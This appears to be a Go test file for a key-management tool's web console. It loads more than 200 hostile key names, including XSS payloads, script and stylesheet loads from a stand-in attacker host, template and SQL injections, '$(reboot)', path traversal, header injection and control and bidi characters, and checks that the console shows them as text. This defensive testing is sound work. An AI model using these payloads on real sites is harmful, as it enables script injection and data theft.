//go:build torture

package main

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"keystile/cache"
	"keystile/keys"
)

// hostileMarkup are names that a page which does not take them for text runs, loads or
// renders. What runs sets "hostile" or shows a dialog.
var hostileMarkup = []string{
	// Elements
	`<script>hostile=1</script>`, `<script src=//attacker.test/x.js></script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script>alert(1)`, `</script><script>hostile=1</script>`,
	`<scr<script>ipt>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<img src=x onerror=hostile=1//`, `<img/src="x"/onerror=alert(1)>`, `<img src="//attacker.test/i.png">`,
	`<svg onload=alert(1)>`, `<svg><script>hostile=1</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<math><mtext></p><style><img src=x onerror=alert(1)>`,
	`<iframe srcdoc="<script>parent.hostile=1</script>">`, `<iframe src=javascript:parent.hostile=1>`, `<object data=javascript:hostile=1>`, `<embed src=javascript:hostile=1>`,
	`<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x`, `<marquee onstart=alert(1)>x`, `<body onload=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=hostile=1>`, `<a href=javascript:alert(1)>x</a>`, `<form action=//attacker.test><input type=submit>`,
	`<meta http-equiv=refresh content="0;url=//attacker.test">`, `<base href=//attacker.test/>`, `<link rel=stylesheet href=//attacker.test/x.css>`, `<style>*{display:none}</style>`,
	`<style>@import '//attacker.test/x.css'</style>`, `<template><img src=x onerror=alert(1)></template>`, `<dialog open>Your session has ended</dialog>`, `<bdo dir=rtl>x</bdo>`,
	`<noscript><img src=x onerror=alert(1)></noscript>`, `<table><tr><td>x`, `</bdi></h2></li><h1>x</h1>`, `</ul></main></body></html>`, `<plaintext>`, `<button popovertarget=menu>x</button>`,
	`<img srcset="x 1x, //attacker.test/i.png 2x">`, `<x onclick=alert(1) tabindex=1>x`, `<svg><use href="//attacker.test/x.svg#x">`, `<input type=image src=//attacker.test/i.png>`,
	`<slot>`, `<textarea>`, `<frameset onload=alert(1)>`, `<link rel=modulepreload href=//attacker.test/x.js>`, `<xmp>`, `<title>x</title>`,
	`<!-- x`, `--> x`, `<![CDATA[x]]>`, `<?xml version="1.0"?>`, `<!doctype html>`, `<x:y xmlns:x="http://www.w3.org/1999/xhtml">`,
	// Attributes
	`"><svg onload=alert(1)>`, `' onfocus=hostile=1 autofocus x='`, `" onmouseover="alert(1)`, "` onmouseover=alert(1) x=`", `x" style="position:fixed;inset:0`, `" aria-hidden="true`,
	`" id="added-secret`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `url(javascript:alert(1))`,
	// Encodings
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`, `&amp;lt;b&amp;gt;`, `&NewLine;&Tab;&nbsp;`, `%3Cscript%3Ealert(1)%3C/script%3E`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cimg src=x onerror=alert(1)\x3e`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞alert(1)＜/script＞`, `‹script›`,
	// Templates and languages
	`${hostile=1}`, "`${alert(1)}`", `{{hostile=1}}`, `{{constructor.constructor('hostile=1')()}}`, `{%raw%}`, `<%= hostile %>`, `#{hostile}`, `[[hostile]]`, `*{hostile}`, `$1 $& $' $$`,
	`'-alert(1)-'`, `";alert(1)//`, `\";alert(1)//`, `");hostile=1;("`, `*/alert(1)/*`, `;}*{display:none`, `{"name":"x"}`, `","secret":"x`, `null`, `undefined`, `NaN`, `false`, `0`, `[object Object]`,
	`' OR 1=1 --`, `=HYPERLINK("//attacker.test")`, `$(reboot)`, `../../etc/passwd`, `%s%n%d`, `C:\con`,
	// Prototypes, and what the page itself is made of
	`__proto__`, `constructor`, `prototype`, `toString`, `valueOf`, `hasOwnProperty`, `__defineGetter__`, `__proto__[hostile]`, `constructor.prototype.hostile=1`, `innerHTML`,
	`menu-delete`, `Add key`, `Delete`, `#proxies`, `row`, `API key 1`,
}

// hostileCharacters are names that a font, a line or a reader stumbles over. NormalizeName
// refuses many of them.
func hostileCharacters() (names []string) {
	for _, r := range "\x00\x01\x07\b\t\n\v\f\r\x1b\x7f\u0080\u0085\u009b\u00a0\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e" +
		"\u2060\u2066\u2067\u2068\u2069\u206a\u3164\ufe0f\ufeff\ufff9\ufffc\ufffd\ufffe\uffff\ue000\U000e0001\U000e0041\U0001f3fb\U0010ffff" {
		names = append(names, fmt.Sprintf("pay%cload", r))
	}
	return append(names,
		" ", "\t\n", "\u200b", "\u202egnp.yek", "\u2066\u2067\u2068", "\u202e\u202d\u202e", "line\nbreak", "a\r\nSet-Cookie: x=1", "\x1b[2J\x1b[31mred", "z\u0336\u0489\u0315\u0334",
		"e\u0301 is not é", "ﷺ ﷽", "שלום <b>x</b> مرحبا", "аdmin", "K\u212aeystile", "ǅ İ ı ß ﬃ", "👩‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e007f", "🇩🇪🇩",
		strings.Repeat("W", 2000), strings.Repeat("W ", 2000), strings.Repeat("👍🏽", 500), "Z"+strings.Repeat("\u0300\u0489", 300), strings.Repeat("\u202e", 500), strings.Repeat("\n", 500),
		strings.Repeat("<b>", 1000), strings.Repeat("&amp;", 1000), strings.Repeat("\u00a0", 300), strings.Repeat("／", 300), strings.Repeat("\u00ad", 300), strings.Repeat("漢", 500),
	)
}

func TestTortureConsoleShowsHostileNamesAsText(t *testing.T) {
	names := slices.Concat(hostileMarkup, hostileCharacters())
	if distinct := slices.Compact(slices.Sorted(slices.Values(names))); len(distinct) < 200 {
		t.Fatalf("%d names", len(distinct))
	}
	c := command{folder: t.TempDir()}
	prepareStore(t, c.folder, cache.BoltOptions{PerAccount: 1000}, func(t *testing.T, store keys.Store) {
		for _, name := range names {
			createNamed(t, store, name)
		}
	})
	list, err := json.Marshal(names)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(c.folder, "names.json")
	writeFile(t, path, string(list), 0o600)
	p := startServe(t, newSample(t).URL, c)
	t.Logf("%s", runNode(t, consoleFolder, append(browserEnv(t, p), "NAMES="+path), "names.mjs"))
}
